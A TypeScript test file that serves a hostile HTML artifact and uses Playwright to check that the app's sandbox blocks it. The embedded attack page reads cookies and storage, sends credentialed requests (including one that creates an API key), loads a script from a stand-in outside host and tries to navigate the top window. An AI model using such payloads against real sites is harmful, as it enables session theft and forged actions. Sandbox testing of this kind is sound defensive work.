// A hostile document published as an artifact, viewed by the signed-in owner: it runs but reaches nothing: no cookie,
// no API reply, no other host, and no other window.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from 'playwright-core'
import { expect, it } from 'vitest'
import type { ConsoleWorld } from '../support/console.ts'

/** Runs in the artifact. Each attempt reports what it reached, or that it was blocked. */
const attack = (api: string, stranger: string): string => `<!doctype html><html><head><title>Report</title>
<base href="${api}/"><link rel="stylesheet" href="${stranger}/style.css"></head><body>
<form id="form" action="${api}/session/end" method="post" target="_top"><input name="a" value="b"></form>
<a id="link" href="${stranger}/link" target="_top">more</a><img src="${stranger}/image.png">
<iframe src="${api}/me"></iframe><script src="${stranger}/script.js"></script>
<script>
const answered = (request) => request.then((response) => 'reached ' + response.status)
const opened = (make) => new Promise((resolve, reject) => {
  const one = make()
  one.onopen = one.onmessage = () => resolve('reached')
  one.onerror = () => reject(new Error('refused'))
})
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.setItem('a', 'b'),
  sessionStorage: () => sessionStorage.setItem('a', 'b'),
  database: () => indexedDB.open('a'),
  parent: () => { if (parent === window) throw new Error('alone'); return parent.document.title },
  opener: () => { if (!window.opener) throw new Error('none'); return 'reached' },
  popup: () => { if (!window.open('${api}/docs')) throw new Error('none'); return 'reached' },
  me: () => answered(fetch('${api}/me', { credentials: 'include' })),
  opaque: () => answered(fetch('${api}/me', { credentials: 'include', mode: 'no-cors' })),
  write: () => answered(fetch('${api}/apikeys', { method: 'POST', credentials: 'include', body: '{"name":"mine"}' })),
  stranger: () => answered(fetch('${stranger}/fetch', { mode: 'no-cors' })),
  module: () => import('${stranger}/module.js'),
  worker: () => opened(() => new Worker('${api}/worker.js')),
  inlineWorker: () => opened(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
  events: () => opened(() => new EventSource('${api}/events', { withCredentials: true })),
  socket: () => opened(() => new WebSocket('${stranger.replace('http', 'ws')}/socket')),
  top: () => { if (top === window) throw new Error('alone'); top.location.href = '${stranger}/top'; return 'asked' },
  topReplace: () => { if (top === window) throw new Error('alone'); top.location.replace('${stranger}/top'); return 'asked' },
  submit: () => { document.getElementById('form').submit(); return 'asked' },
  click: () => { document.getElementById('link').click(); return 'asked' },
}
window.attacked = (async () => {
  const outcome = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    // The link leads this window itself away where it is the top one.
    if (name === 'click' && top === window) continue
    outcome[name] = await Promise.resolve().then(attempt).catch(() => 'refused')
  }
  return outcome
})()
</script></body></html>`

const outcomeOf = async (frame: Frame | Page): Promise<Record<string, unknown>> =>
  (await frame.evaluate('window.attacked')) as Record<string, unknown>

/** An attempt to navigate the top window only reports that it was made; the test checks the window itself. */
const harmless = ['refused', 'asked']

export const hostileArtifactStories = (worldOf: () => ConsoleWorld): void => {
  it('shows a hostile artifact without giving it a cookie, an answer, another host or the top window', async () => {
    const world = worldOf()
    const asked: string[] = []
    const stranger = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
    })
    await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done))
    const context = await world.browser.newContext({ storageState: await world.state() })
    try {
      const api = world.server.url
      const content = attack(api, `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`)
      const artifact = (await world.call('POST', '/artifacts', { title: 'Report', content })) as { id: string }
      const render = `${api}/artifacts/${artifact.id}/render`
      const host = `${api}/host-of-the-frame`
      await context.route(host, (route) =>
        route.fulfill({ contentType: 'text/html', body: `<title>Host</title><iframe src="${render}"></iframe>` }),
      )
      for (const address of [host, render]) {
        const page = await context.newPage()
        const answered: string[] = []
        page.on('response', (response) => answered.push(response.url()))
        await page.goto(address)
        const frame = address === host ? page.frames().find((one) => one.url() === render) : page
        if (!frame) throw new Error('The artifact is not in its frame')
        const outcome = await outcomeOf(frame)
        expect(Object.entries(outcome).filter(([, got]) => !harmless.includes(String(got)))).toEqual([])
        expect(Object.keys(outcome).length).toBeGreaterThan(15)
        expect(page.url()).toBe(address)
        expect(context.pages()).toHaveLength(1)
        expect(answered.filter((url) => url !== host && url !== render && !url.endsWith('/favicon.ico'))).toEqual([])
        await page.close()
      }
      expect(asked).toEqual([])
      // The browser is signed in: its cookie works outside the artifact.
      expect((await context.request.get(`${api}/me`)).status()).toBe(200)
    } finally {
      await context.close()
      await new Promise((done) => stranger.close(done))
    }
  })
}
